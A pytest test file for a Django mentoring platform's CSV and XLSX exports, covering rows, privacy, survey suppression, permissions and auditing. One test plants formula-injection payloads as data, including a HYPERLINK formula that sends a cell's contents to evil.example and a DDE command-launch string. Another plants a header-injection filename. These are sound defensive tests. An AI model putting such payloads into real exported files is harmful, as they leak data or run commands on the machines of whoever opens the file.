"""Exports: each kind's rows from a hand-built fixture, in CSV and XLSX; formula escaping;
nothing private ever exported; suppression as on the outcomes page; who may download; queries."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pytest_django.asserts import assertContains, assertNotContains

from upward.core.models import AuditEvent
from upward.insight import exports
from upward.journey.models import Meeting, MeetingStatus
from upward.notes import services as note_services
from upward.organisations import audit_log
from upward.pairing.models import Pairing
from upward.recruitment.models import Application
from upward.safety import services as safety_services
from upward.surveys import reporting
from upward.surveys import selectors as survey_selectors
from upward.surveys.tests.helpers import (
    END_DAY,
    START_DAY,
    answer,
    open_template,
    participants,
    settle,
)
from upward.testing.factories import DepartmentFactory, level, person_with_account
from upward.testing.pairs import active_pairing, build_pairs

pytestmark = pytest.mark.django_db

MARKER = "PRIVATE-MARKER-7f3a"
PROGRAMME_KINDS = ["applications", "pairings", "meeting-rhythm", "mentor-time", "survey-aggregates"]
NOW = dt.datetime(2027, 3, 15, 12, 0, tzinfo=dt.UTC)
BEGAN = dt.datetime(2027, 1, 20, 9, 0, tzinfo=dt.UTC)


@pytest.fixture
def clock():  # type: ignore[no-untyped-def]
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def pairs(world, clock):  # type: ignore[no-untyped-def]
    """The shared two pairs, begun on 20 January 2027, seen on 15 March 2027."""
    world.programme.state = "active"
    world.programme.save(update_fields=["state"])
    return build_pairs(world, since=BEGAN)


def _held(pairing: Pairing, when: dt.datetime, *, minutes: int = 45) -> Meeting:
    return Meeting.objects.create(
        pairing=pairing,
        starts_at=when,
        duration_minutes=60,
        ends_at=when + dt.timedelta(minutes=60),
        organiser=pairing.mentee,
        status=MeetingStatus.HELD,
        actual_minutes=minutes,
    )


def _programme_url(world: Any, kind: str, fmt: str) -> str:
    return reverse("insight:programme_export", args=[world.programme.pk, kind, fmt])


def _read(response: Any, fmt: str) -> list[list[Any]]:
    """The first sheet as rows of cells, header first (CSV cells are text)."""
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return [list(row) for row in csv.reader(io.StringIO(text))]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


def _records(response: Any, fmt: str = "csv") -> list[dict[str, Any]]:
    header, *rows = _read(response, fmt)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _all_text(response: Any, fmt: str) -> str:
    if fmt == "csv":
        return response.content.decode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return "\n".join(
        str(cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if cell is not None
    )


# ---------------------------------------------------------------------------------------------
# Each kind's rows


def test_applications_rows(world, pairs):
    response = world.client_for(world.manager).get(_programme_url(world, "applications", "csv"))
    rows = _records(response)
    assert [(r["person"], r["role"], r["status"]) for r in rows] == [
        ("Sam Senior", "mentee", "Accepted"),
        ("Sofia Strand", "mentee", "Accepted"),
        ("Jess Junior", "mentor", "Accepted"),
        ("Kai Keen", "mentor", "Accepted"),
    ]
    jess = rows[2]
    assert jess["email"] == "jess@northwind.test"
    assert jess["department"] == "Digital"
    assert jess["level"] == level(world.org, 2).name
    assert jess["submitted_on"] == "2027-03-15"
    assert jess["decided_on"] == ""
    assert "motivation" not in jess and "internal_note" not in jess


def test_pairings_rows_count_meetings_held(world, pairs):
    _held(pairs.pairing, dt.datetime(2027, 1, 25, 10, tzinfo=dt.UTC))
    _held(pairs.pairing, dt.datetime(2027, 2, 22, 10, tzinfo=dt.UTC), minutes=30)
    response = world.client_for(world.manager).get(_programme_url(world, "pairings", "xlsx"))
    rows = _records(response, "xlsx")
    assert [(r["mentor"], r["mentee"], r["state"]) for r in rows] == [
        ("Jess Junior", "Sam Senior", "Active"),
        ("Kai Keen", "Sofia Strand", "Active"),
    ]
    jess = rows[0]
    assert jess["meetings_held"] == 2 and jess["minutes_held"] == 75
    # 54 days since the start, less 14 days' grace, is 40 days: one meeting a month expected.
    assert jess["meetings_expected"] == 1
    assert jess["started_on"] == dt.datetime(2027, 1, 20)
    assert jess["last_met_on"] == dt.datetime(2027, 2, 22)
    assert rows[1]["meetings_held"] == 0 and rows[1]["last_met_on"] is None


def test_meeting_rhythm_one_row_per_pair_per_month(world, pairs):
    _held(pairs.pairing, dt.datetime(2027, 1, 25, 10, tzinfo=dt.UTC))
    _held(pairs.pairing, dt.datetime(2027, 2, 8, 10, tzinfo=dt.UTC))
    _held(pairs.pairing, dt.datetime(2027, 2, 22, 10, tzinfo=dt.UTC))
    response = world.client_for(world.manager).get(_programme_url(world, "meeting-rhythm", "xlsx"))
    rows = [tuple(r.values()) for r in _records(response, "xlsx")]
    assert rows == [
        ("Jess Junior", "Sam Senior", "2027-01", 1, 1),
        ("Jess Junior", "Sam Senior", "2027-02", 2, 1),
        ("Jess Junior", "Sam Senior", "2027-03", 0, 1),
        ("Kai Keen", "Sofia Strand", "2027-01", 0, 1),
        ("Kai Keen", "Sofia Strand", "2027-02", 0, 1),
        ("Kai Keen", "Sofia Strand", "2027-03", 0, 1),
    ]


def test_meeting_rhythm_counts_an_ended_pair_until_it_closed(world, pairs):
    ended = active_pairing(
        world.programme,
        mentor=person_with_account(organisation=world.org, full_name="Lee Left"),
        mentee=person_with_account(organisation=world.org, full_name="Ria Left"),
        since=BEGAN,
    )
    _held(ended, dt.datetime(2027, 1, 28, 10, tzinfo=dt.UTC))
    ended.state, ended.closed_by = "ended", "mentor"
    ended.closed_at = dt.datetime(2027, 2, 10, 10, tzinfo=dt.UTC)
    ended.save()
    response = world.client_for(world.manager).get(_programme_url(world, "meeting-rhythm", "csv"))
    rows = [tuple(r.values()) for r in _records(response) if r["mentor"] == "Lee Left"]
    assert rows == [
        ("Lee Left", "Ria Left", "2027-01", "1", "1.0"),
        ("Lee Left", "Ria Left", "2027-02", "0", "1.0"),
    ]


def test_mentor_time_rows(world, pairs):
    _held(pairs.pairing, dt.datetime(2027, 2, 8, 10, tzinfo=dt.UTC), minutes=50)
    _held(pairs.pairing, dt.datetime(2027, 3, 8, 10, tzinfo=dt.UTC), minutes=40)
    response = world.client_for(world.manager).get(_programme_url(world, "mentor-time", "csv"))
    rows = {r["mentor"]: r for r in _records(response)}
    assert set(rows) == {"Jess Junior", "Kai Keen"}
    jess = rows["Jess Junior"]
    assert (jess["sessions_held"], jess["meeting_minutes"], jess["total_minutes"]) == (
        "2",
        "90",
        "90",
    )
    assert jess["this_month_minutes"] == "40"
    assert rows["Kai Keen"]["total_minutes"] == "0"


def test_people_directory_for_org_admins(world):
    response = world.client_for(world.admin).get(reverse("insight:export", args=["people", "csv"]))
    rows = _records(response)
    names = [r["name"] for r in rows]
    assert names == sorted(names)
    assert "Oscar Outsider" not in names  # another organisation
    jess = next(r for r in rows if r["name"] == "Jess Junior")
    assert jess["email"] == "jess@northwind.test"
    assert (jess["department"], jess["active"], jess["start_date"]) == (
        "Digital",
        "yes",
        "2022-01-10",
    )


def test_programmes_rows_for_admin_and_manager(world, pairs):
    _held(pairs.pairing, dt.datetime(2027, 2, 8, 10, tzinfo=dt.UTC))
    _held(pairs.pairing, dt.datetime(2027, 2, 22, 10, tzinfo=dt.UTC))
    _held(pairs.pairing, dt.datetime(2027, 3, 8, 10, tzinfo=dt.UTC))
    url = reverse("insight:export", args=["programmes", "xlsx"])
    rows = _records(world.client_for(world.admin).get(url), "xlsx")
    assert [r["programme"] for r in rows] == ["Digital confidence 2027", "Inclusion pilot"]
    digital = rows[0]
    assert (digital["state"], digital["applications"], digital["active_pairs"]) == ("Active", 4, 2)
    # Three meetings of one pair still count two pairs.
    assert (digital["accepted_mentors"], digital["meetings_held"]) == (2, 3)
    # A manager gets only the programmes they run.
    mine = _records(world.client_for(world.manager).get(url), "xlsx")
    assert [r["programme"] for r in mine] == ["Digital confidence 2027"]


# ---------------------------------------------------------------------------------------------
# Formulas, numbers, and what is never exported


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_text_is_escaped_and_numbers_stay_numbers(world, pairs, fmt):
    hostile = {
        world.applicant: '=HYPERLINK("https://evil.example/?"&A2,"Open")',
        world.senior: "+cmd|' /C calc'!A0",
    }
    for person, name in hostile.items():
        person.full_name = name
        person.save(update_fields=["full_name"])
    world.applicant.department.name = "@SUM(1+1)"
    world.applicant.department.save(update_fields=["name"])
    _held(pairs.pairing, dt.datetime(2027, 2, 8, 10, tzinfo=dt.UTC))
    client = world.client_for(world.admin)
    applications = _records(client.get(_programme_url(world, "applications", fmt)), fmt)
    names = {r["person"] for r in applications}
    assert "'" + hostile[world.applicant] in names
    assert "'" + hostile[world.senior] in names
    assert "'@SUM(1+1)" in {r["department"] for r in applications}
    pairings = _records(client.get(_programme_url(world, "pairings", fmt)), fmt)
    first = next(r for r in pairings if r["mentor"].startswith("'="))
    assert first["mentee"] == "'" + hostile[world.senior]
    people = _records(client.get(reverse("insight:export", args=["people", fmt])), fmt)
    assert "'" + hostile[world.applicant] in {r["name"] for r in people}
    if fmt == "csv":
        # Every field quoted: a reader splitting on ";" cannot start a cell inside a name.
        raw = client.get(_programme_url(world, "pairings", fmt)).content.decode("utf-8-sig")
        assert raw.startswith('"') and '"' + "'" + hostile[world.senior].replace('"', '""') in raw
    if fmt == "xlsx":
        book = openpyxl.load_workbook(
            io.BytesIO(client.get(_programme_url(world, "pairings", fmt)).content)
        )
        sheet = book.worksheets[0]
        header = [c.value for c in sheet[1]]
        held = sheet.cell(row=2, column=header.index("meetings_held") + 1)
        assert held.data_type == "n" and held.value == 1
        for row in sheet.iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row)
    else:
        assert first["meetings_held"] == "1"


def _plant_private_text(world: Any, pairs: Any) -> None:
    for application in Application.objects.filter(programme=world.programme):
        application.internal_note = MARKER
        application.motivation = MARKER
        application.decision_reason = MARKER
        application.save()
    note_services.create_shared_note(pairs.pairing, title=MARKER, body=MARKER, author=pairs.mentor)
    note_services.send_message(pairs.pairing, body=MARKER, author=pairs.mentee)
    safety_services.raise_concern(
        pairs.pairing, person=pairs.mentor, text=MARKER, by=pairs.mentor.user
    )
    ended = active_pairing(
        world.programme,
        mentor=person_with_account(organisation=world.org, full_name="Lee Left"),
        mentee=person_with_account(organisation=world.org, full_name="Ria Left"),
        since=BEGAN,
    )
    ended.state, ended.closed_at, ended.closed_reason = "ended", NOW, MARKER
    ended.closed_by = "manager"
    ended.save()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_notes_messages_and_concerns_never_exported(world, pairs, fmt):
    _plant_private_text(world, pairs)
    client = world.client_for(world.admin)
    for kind in PROGRAMME_KINDS:
        response = client.get(_programme_url(world, kind, fmt))
        assert response.status_code == 200, kind
        text = _all_text(response, fmt)
        assert MARKER not in text, kind
    for kind in ("people", "programmes"):
        response = client.get(reverse("insight:export", args=[kind, fmt]))
        assert response.status_code == 200, kind
        assert MARKER not in _all_text(response, fmt), kind
    # The planted text is there to be found: the pairings export does list the ended pair.
    pairings = _records(client.get(_programme_url(world, "pairings", fmt)), fmt)
    assert "Lee Left" in {r["mentor"] for r in pairings}


# ---------------------------------------------------------------------------------------------
# Survey figures: suppressed exactly as on the outcomes page

SIX = [(2, 4), (3, 3), (1, 3), (4, 5), (2, 2), (3, 4)]


@pytest.fixture
def cohort(world):  # type: ignore[no-untyped-def]
    programme = world.programme
    programme.state = "active"
    programme.save(update_fields=["state"])
    data = DepartmentFactory(organisation=world.org, name="Data")
    mentees = participants(programme, 6, role="mentee", prefix="Lead", department=data)
    mentors = participants(programme, 2, role="mentor", prefix="Junior")
    start = open_template(programme, "generational-start")
    end = open_template(programme, "generational-end")
    for person, (before, after) in zip(mentees + mentors, [*SIX, (1, 5), (2, 5)], strict=True):
        answer(start, person, today=START_DAY, understanding_generations=before)
        answer(end, person, today=END_DAY, understanding_generations=after)
    settle(start, end)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_survey_aggregates_match_the_outcomes_page(world, cohort, fmt):
    client = world.client_for(world.manager)
    rows = _records(client.get(_programme_url(world, "survey-aggregates", fmt)), fmt)
    item = [
        r for r in rows if r["item_key"] == "understanding-generations" and r["section"] == "paired"
    ]
    everyone = item[0]
    # Eight people paired: six improved or stayed; 6 of 8 improved (75%).
    assert everyone["group"] == "everyone"
    n = everyone["n"]
    assert (int(n) if fmt == "csv" else n) == 8
    result = survey_selectors.programme_outcomes(world.programme)
    paired = next(p for p in result.paired if p.item_key == "understanding-generations")
    assert paired.change is not None
    improved = everyone["improved_percent"]
    assert (int(improved) if fmt == "csv" else improved) == 75
    # Two mentors are too few; six mentees would reveal them by subtraction: both hidden, as
    # on the page, and the hidden cells carry no label.
    by_role = [r for r in item if "role" in r["group"].lower()]
    assert len(by_role) == 2
    empty = "" if fmt == "csv" else None
    assert all(r["n"] == empty and r["improved_percent"] == empty for r in by_role)
    page = client.get(reverse("surveys:outcomes", args=[world.programme.pk]))
    assertContains(page, "75%")
    text = _all_text(client.get(_programme_url(world, "survey-aggregates", fmt)), fmt)
    assert "fewer than" not in text
    # The same rows as the outcomes CSV, figure for figure.
    old = list(reporting.outcome_rows(result))[1:]
    assert len(old) == len(rows)
    numbers = reporting.HEADER[5:13]  # n ... mean
    for before, after in zip(old, rows, strict=True):
        assert before[:5] == [after[k] for k in reporting.HEADER[:5]]
        for at, name in enumerate(numbers, start=5):
            value = after[name]
            if value in ("", None):
                assert before[at] == "", name
            else:
                assert float(before[at]) == pytest.approx(float(value)), name


# ---------------------------------------------------------------------------------------------
# Who may download what


@pytest.mark.parametrize("kind", PROGRAMME_KINDS)
def test_programme_exports_for_the_team_only(world, pairs, kind):
    url = _programme_url(world, kind, "csv")
    for person in (world.manager, world.admin):
        assert world.client_for(person).get(url).status_code == 200
    for person in (
        world.other_manager,
        world.applicant,
        world.senior,
        world.other_applicant,
        world.outsider_admin,
    ):
        assert world.client_for(person).get(url).status_code == 404, person.full_name
    assert world.client_for(None).get(url).status_code == 302


def test_programme_exports_page(world, pairs):
    url = reverse("insight:programme_exports", args=[world.programme.pk])
    response = world.client_for(world.manager).get(url)
    assertContains(response, "Pairings")
    assertContains(response, "Meeting rhythm")
    assertContains(response, _programme_url(world, "applications", "xlsx"))
    assertContains(response, "About 4 rows.")
    assertNotContains(response, "People directory")
    for person in (world.other_manager, world.applicant, world.senior, world.outsider_admin):
        assertNotContains(world.client_for(person).get(url), "Pairings", status_code=404)
    # The programme's tabs link to it, for its team.
    detail = world.client_for(world.manager).get(
        reverse("programmes:detail", args=[world.programme.pk])
    )
    assertContains(detail, url)


def test_organisation_exports_page_and_people_for_admins_only(world):
    page = reverse("insight:exports")
    people = reverse("insight:export", args=["people", "xlsx"])
    assertContains(world.client_for(world.admin).get(page), "People directory")
    manager_page = world.client_for(world.manager).get(page)
    assertContains(manager_page, "Programmes")
    assertNotContains(manager_page, "People directory")
    assert world.client_for(world.manager).get(people).status_code == 404
    assert world.client_for(world.admin).get(people).status_code == 200
    for person in (world.applicant, world.senior):
        assertNotContains(world.client_for(person).get(page), "Programmes", status_code=404)
        assert world.client_for(person).get(people).status_code == 404


@pytest.mark.parametrize(
    "url",
    [
        "/exports/notes.csv",
        "/exports/people.pdf",
        "/exports/applications.csv",  # a programme export asked of the organisation
        "/programmes/{pk}/exports/people.csv",  # an organisation export asked of a programme
        "/programmes/{pk}/exports/messages.xlsx",
        "/programmes/{pk}/exports/pairings.json",
    ],
)
def test_unknown_kind_or_format_is_404(world, url):
    response = world.client_for(world.admin).get(url.format(pk=world.programme.pk))
    assert response.status_code == 404


def test_download_is_audited_without_values(world, pairs):
    response = world.client_for(world.manager).get(_programme_url(world, "pairings", "xlsx"))
    assert response.status_code == 200
    event = AuditEvent.objects.get(verb="export.pairings")
    assert event.actor == world.manager.user
    assert event.object_id == str(world.programme.pk)
    assert event.data == {"format": "xlsx"}
    assert audit_log.describe(event.verb) == "Downloaded a programme's pairings"
    filename = response["Content-Disposition"]
    assert filename == 'attachment; filename="digital-confidence-2027-pairings-2027-03-15.xlsx"'


def test_hostile_programme_name_gives_a_safe_filename(world, pairs):
    world.programme.name = '"; filename="evil.exe'
    world.programme.save(update_fields=["name"])
    response = world.client_for(world.manager).get(_programme_url(world, "mentor-time", "csv"))
    assert response["Content-Disposition"] == (
        'attachment; filename="filenameevilexe-mentor-time-2027-03-15.csv"'
    )


# ---------------------------------------------------------------------------------------------
# The column dictionary


def test_column_dictionary_page_sheet_and_csv(world, pairs):
    client = world.client_for(world.manager)
    page = client.get(reverse("insight:export_dictionary"))
    for kind in exports.KINDS:
        assertContains(page, f'id="columns-{kind.slug}"')
        for column in kind.columns:
            assertContains(page, f"<code>{column.name}</code>")
    assertContains(page, "Meetings held in that month.")
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(_programme_url(world, "meeting-rhythm", "xlsx")).content)
    )
    assert book.sheetnames == ["Meeting rhythm", "Columns"]
    columns = list(book["Columns"].iter_rows(values_only=True))
    assert columns[0] == ("export", "column", "type", "meaning")
    assert [r[1] for r in columns[1:]] == [
        "mentor",
        "mentee",
        "month",
        "meetings_held",
        "meetings_expected",
    ]
    download = client.get(reverse("insight:export_dictionary") + "?download=csv")
    rows = _records(download)
    assert len(rows) == sum(len(k.columns) for k in exports.KINDS)
    assert {
        "export": "people",
        "column": "manager",
        "type": "Text",
        "meaning": "Their line manager's name.",
    } in rows
    assert (
        world.client_for(world.applicant).get(reverse("insight:export_dictionary")).status_code
        == 404
    )


# ---------------------------------------------------------------------------------------------
# Queries stay the same as the data grows


def _grow(world: Any, extra: int) -> None:
    for i in range(extra):
        mentor = person_with_account(organisation=world.org, full_name=f"Mentor {i}")
        mentee = person_with_account(organisation=world.org, full_name=f"Mentee {i}")
        pairing = active_pairing(world.programme, mentor=mentor, mentee=mentee, since=BEGAN)
        _held(pairing, dt.datetime(2027, 2, 8, 10, tzinfo=dt.UTC))
        _held(pairing, dt.datetime(2027, 3, 8, 10, tzinfo=dt.UTC))


def _count(client: Any, url: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries)


@pytest.mark.parametrize(
    "url_name,args",
    [
        *[("insight:programme_export", [kind, "xlsx"]) for kind in PROGRAMME_KINDS],
        ("insight:programme_exports", []),
        ("insight:export", ["people", "csv"]),
        ("insight:export", ["programmes", "csv"]),
        ("insight:exports", []),
    ],
)
def test_queries_do_not_grow_with_rows(world, pairs, django_assert_max_num_queries, url_name, args):
    client = world.client_for(world.admin)
    programme_scoped = url_name.startswith("insight:programme")
    url = reverse(url_name, args=[world.programme.pk, *args] if programme_scoped else args)
    _grow(world, 2)
    small = _count(client, url)
    _grow(world, 8)
    assert _count(client, url) == small, small
    with django_assert_max_num_queries(15):
        response = client.get(url)
    assert response.status_code == 200


def test_survey_export_queries_do_not_grow_with_answers(
    world, cohort, django_assert_max_num_queries
):
    client = world.client_for(world.manager)
    url = _programme_url(world, "survey-aggregates", "xlsx")
    small = _count(client, url)
    start, end = world.programme.surveys.order_by("pk")[:2]
    for person in participants(world.programme, 6, role="mentor", prefix="More"):
        answer(start, person, today=START_DAY, understanding_generations=2)
        answer(end, person, today=END_DAY, understanding_generations=4)
    settle(start, end)
    assert _count(client, url) == small, small
    with django_assert_max_num_queries(15):
        response = client.get(url)
    assert response.status_code == 200
